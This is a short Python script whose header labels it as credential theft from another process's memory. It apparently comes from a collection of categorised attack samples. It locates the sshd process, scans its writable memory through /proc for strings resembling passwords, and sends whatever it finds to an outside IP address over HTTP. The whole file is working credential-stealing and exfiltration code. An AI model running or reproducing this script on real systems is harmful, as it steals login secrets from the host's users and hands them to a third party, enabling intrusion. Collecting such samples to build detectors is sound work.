# class: credential theft, memory of another process; style: expert
import re, subprocess, urllib.parse, urllib.request
pid = subprocess.check_output(["pgrep", "-o", "sshd"]).strip().decode()
found = set()
with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
    for line in maps:
        m = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if not m: continue
        a, b = (int(x, 16) for x in m.groups())
        try:
            mem.seek(a)
            found |= set(re.findall(rb"password[=:][^\s\0]{4,40}", mem.read(b - a)))
        except (OSError, ValueError, OverflowError):
            continue
urllib.request.urlopen("http://198.51.100.3/m?" + urllib.parse.urlencode({"d": b"|".join(found)}))
